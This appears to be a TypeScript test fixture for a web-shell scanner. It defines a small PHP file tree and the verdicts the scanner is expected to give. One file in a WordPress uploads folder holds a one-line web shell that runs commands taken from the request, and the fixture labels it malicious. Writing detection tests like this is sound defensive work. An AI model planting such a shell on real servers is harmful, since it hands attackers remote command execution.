import type { Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/var/www/html/index.php': '<?php echo "hello";',
    '/var/www/html/db.php': '<?php $pdo->exec("delete from t where id=".(int)$_GET["id"]);',
    '/var/www/html/wp-content/uploads/a.php': '<?php system($_REQUEST["c"]);',
  },
  blamed: [
    {
      path: '/var/www/html/wp-content/uploads/a.php',
      verdict: 'malicious',
      code: 'runs-request',
      attack: 'T1505.003',
    },
  ],
  passed: ['index.php', 'db.php'],
};
